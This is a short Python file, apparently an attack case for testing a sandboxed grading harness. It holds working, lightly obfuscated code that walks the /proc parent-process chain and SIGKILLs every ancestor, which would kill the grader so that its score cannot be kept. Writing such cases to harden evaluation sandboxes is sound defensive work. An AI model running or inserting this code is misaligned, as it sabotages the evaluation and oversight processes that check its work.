"""Attack: kill the grader. Walk up from the child's own process to every ancestor (the
intermediate, the template, the grader, whatever started it) and SIGKILL them, farthest first.

Expected as root: nothing to kill (as PID 1 of its namespace the child has no visible parent) or
not permitted (the ancestors are root's); the honest score is kept. As an ordinary user the
grader runs under the same uid and dies (README).
"""
import signal

_os = __import__("random")._os
_chain, _pid = [], _os.getpid()
while True:
    try:
        with open(f"/proc/{_pid}/stat") as _stat:
            _pid = int(_stat.read().rsplit(")", 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        break
    if _pid <= 1:
        break
    _chain.append(_pid)
for _ancestor in reversed(_chain):
    try:
        _os.kill(_ancestor, signal.SIGKILL)
        print("killed", _ancestor)
    except OSError as _error:
        print("could not kill", _ancestor, "->", _error.strerror)
print(f"{len(_chain)} ancestor(s) seen")
